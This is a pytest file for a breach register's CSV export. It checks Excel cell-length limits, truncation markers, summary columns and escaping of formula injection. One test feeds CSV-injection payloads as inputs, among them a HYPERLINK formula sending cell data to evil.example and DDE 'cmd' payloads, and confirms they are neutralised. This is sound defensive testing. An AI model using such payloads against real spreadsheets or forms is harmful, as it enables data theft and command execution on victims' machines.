"""The breach register's CSV opens in a spreadsheet: no cell beyond Excel's 32,767 characters
(long text cut with a visible marker, the full record staying in the JSON form), summary
columns instead of the full change log, and no cell a spreadsheet would run as a formula
(user text: titles, reasons, actors). On SQLite and PostgreSQL (``settings`` fixture)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest

from sentinelle.config import Settings
from sentinelle.incidents import Incidents, register, register_csv
from sentinelle.incidents.register import CELL_MAX, CSV_COLUMNS, TRUNCATED, csv_cell
from sentinelle.response import ResponseEngine
from sentinelle.store import Store, open_store
from sentinelle.timeutil import HOUR, parse_time

AWARE = "2026-11-20T08:00:00Z"
NOW = parse_time(AWARE) + 24 * HOUR
FACTS: dict[str, Any] = {
    "aware_at": AWARE,
    "breach_types": ["confidentiality"],
    "data_categories": ["contact", "address"],
    "subjects": {"count": 120},
}


@pytest.fixture
def store(settings: Settings) -> Iterator[Store]:
    opened = open_store(settings)
    try:
        yield opened
    finally:
        opened.close()


def rows_of(text: str) -> list[dict[str, str]]:
    csv.field_size_limit(1 << 30)  # read whatever was written, to measure it
    return list(csv.DictReader(io.StringIO(text)))


def excel_len(text: str) -> int:
    """Length as Excel counts it: UTF-16 code units."""
    return len(text.encode("utf-16-le")) // 2


def test_every_cell_fits_a_spreadsheet_and_json_keeps_everything(store: Store) -> None:
    engine = ResponseEngine(store)
    incident = engine.open(title="harvest 🕵️" * 10, by="dpo", actors=["ana", "bob"], from_us=0).id
    for _ in range(3):
        engine.scope(incident, record_by="dpo")
    facts = {
        **FACTS,
        "mitigations": ["🔒 reset every password and revoke every session " * 9] * 200,
    }
    reason = "because " * 2_500  # 20,000 characters, in the facts' and the assessment's lines
    engine.assess(incident, by="dpo", given=facts, reason=reason, now=parse_time(AWARE))

    entry = register(Incidents(store), now_us=NOW)[0]
    assert len(json.dumps(entry["decisions"])) > 100_000  # the JSON form is complete
    assert entry["facts"]["mitigations"] == facts["mitigations"]

    (row,) = rows_of(register_csv(Incidents(store), now_us=NOW))
    assert tuple(row) == CSV_COLUMNS
    for column, cell in row.items():
        assert excel_len(cell) <= CELL_MAX, column
    # The facts' JSON is too long for a cell: cut, and says so.
    assert row["facts"].endswith(TRUNCATED) and excel_len(row["facts"]) == CELL_MAX
    assert row["facts"].startswith('{"aware_at": "2026-11-20T08:00:00Z"')
    # Decisions are one line each; two 20,000-character reasons make the cell too long.
    lines = row["decisions"].split("\n")
    assert [line.split(" ", 3)[1:3] for line in lines[:5]] == [
        ["dpo", "opened"],
        ["dpo", "scope"],
        ["dpo", "scope"],
        ["dpo", "scope"],
        ["dpo", "scope"],
    ]
    assert lines[5].split(" ", 1)[1].startswith("dpo facts: because because")
    assert row["decisions"].endswith(TRUNCATED)
    assert row["decisions_count"] == str(len(entry["decisions"]))
    # The assessment fits: whole and readable JSON.
    assert json.loads(row["assessment"]) == json.loads(json.dumps(entry["assessment"]))
    assert row["title"] == entry["title"]


def test_summary_columns(store: Store) -> None:
    engine = ResponseEngine(store)
    incident = engine.open(title="harvest", by="dpo", actors=["ana"], from_us=0).id
    untouched = engine.open(title="just opened", by="ciso", actors=["bob"], from_us=0).id
    outcome = engine.assess(incident, by="dpo", given=FACTS, now=parse_time(AWARE))
    engine.record_phase(
        incident, "initial", by="dpo", sent_us=parse_time(AWARE) + 2 * HOUR, reference="CNIL-1"
    )
    log = Incidents(store).log(incident)
    decision = outcome.assessment.to_dict()

    first, second = rows_of(register_csv(Incidents(store), now_us=NOW))
    assert first["id"] == incident and second["id"] == untouched
    summary = {k: first[k] for k in CSV_COLUMNS[CSV_COLUMNS.index("decisions_count") :]}
    assert summary == {
        "decisions_count": str(len(log)),
        "last_decision_at": log[-1].to_dict()["at"],
        "last_decision_by": "dpo",
        "last_decision": "state assessed → notifying: initial notification sent to the "
        "supervisory authority",
        "severity": decision["severity"]["level"],
        "severity_score": str(decision["severity"]["score"]),
        "notify_authority_required": str(decision["notify_authority"]["required"]).lower(),
        "notify_subjects_required": str(decision["notify_subjects"]["required"]).lower(),
        "notify_subjects_exemption": "",
        "authority_time_left_seconds": "",
        "authority_clock": "initial notification sent 2026-11-20T10:00:00Z, 2 d 22 h before "
        "the deadline 2026-11-23T08:00:00Z",
    }
    assert (
        "authority_notified initial sent 2026-11-20T10:00:00Z (reference CNIL-1)"
        in (first["decisions"])
    )
    # Nothing assessed yet: empty summary cells, the opening as the last decision.
    got = (second["decisions_count"], second["last_decision"], second["last_decision_by"])
    assert got == ("1", "opened", "ciso")
    assert second["severity"] == second["notify_authority_required"] == ""
    assert second["authority_status"] == "unknown"

    waiting = engine.open(title="waiting", by="dpo", actors=["cy"], from_us=0).id
    engine.assess(waiting, by="dpo", given=FACTS, now=parse_time(AWARE))
    rows = rows_of(register_csv(Incidents(store), now_us=NOW))
    assert [r["id"] for r in rows] == [incident, untouched, waiting]
    assert rows[2]["authority_status"] == "running"
    assert rows[2]["authority_time_left_seconds"] == str(48 * 3600)
    assert rows[2]["authority_clock"].endswith("2 d left")


def test_no_cell_starts_a_formula(store: Store) -> None:
    engine = ResponseEngine(store)
    incident = engine.open(
        title='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        by="@admin",
        actors=["+agent", "-agent", "agent"],
        from_us=0,
    ).id
    engine.assess(
        incident, by="-dpo", given=FACTS, reason="=cmd|' /C calc'!A0", now=parse_time(AWARE)
    )
    engine.record_phase(
        incident,
        "initial",
        by="dpo",
        sent_us=parse_time(AWARE) + 80 * HOUR,
        delay_reasons="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    (row,) = rows_of(register_csv(Incidents(store), now_us=NOW + 100 * HOUR))
    assert row["title"] == """'=HYPERLINK("http://evil.example/?x="&A1,"click")"""
    assert row["created_by"] == "'@admin"
    assert row["actors"] == "'+agent;-agent;agent"
    assert row["authority_delay_reasons"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["last_decision"].startswith("state assessed → notifying")
    facts_line = next(x for x in row["decisions"].split("\n") if " facts: " in x)
    assert facts_line.endswith("-dpo facts: =cmd|' /C calc'!A0")  # mid-cell: harmless
    for column, cell in row.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), column


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (2.5, "2.5"),
        ("plain", "plain"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("x" * CELL_MAX, "x" * CELL_MAX),
    ],
)
def test_csv_cell(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell


def test_csv_cell_cuts_in_utf16_units_with_the_marker() -> None:
    plain = csv_cell("x" * (CELL_MAX + 1))
    assert plain == "x" * (CELL_MAX - len(TRUNCATED)) + TRUNCATED
    assert excel_len(plain) == CELL_MAX
    # 🕵 is two UTF-16 units for Excel: 20,000 of them are 40,000 units, too many.
    emoji = csv_cell("🕵" * 20_000)
    assert emoji.endswith(TRUNCATED) and excel_len(emoji) <= CELL_MAX
    assert set(emoji.removesuffix(TRUNCATED)) == {"🕵"}  # never half a character
    assert csv_cell("🕵" * (CELL_MAX // 2)) == "🕵" * (CELL_MAX // 2)  # 32,766 units: fits
    formula = csv_cell("=" + "x" * CELL_MAX)
    assert formula.startswith("'=x") and excel_len(formula) == CELL_MAX
